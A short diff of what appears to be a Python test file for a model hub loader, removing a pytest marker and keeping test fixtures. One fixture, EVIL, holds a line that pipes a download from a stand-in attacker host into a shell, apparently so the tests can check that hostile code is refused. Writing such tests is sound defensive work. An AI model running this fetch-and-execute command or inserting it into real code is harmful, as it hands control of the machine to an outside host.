@@ -23,9 +23,6 @@ from tests.hub.stub_hub import StubHub, StubRepository
 from tests.support.elsewhere.caseless import without_case
 from tests.support.elsewhere.kit import elsewhere
 
-# names are refused before anything is written, so no right of whoever runs it matters
-pytestmark = pytest.mark.same_for("users", "versions")
-
 GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 TREE = "D:\\cache\\snapshots\\tree"
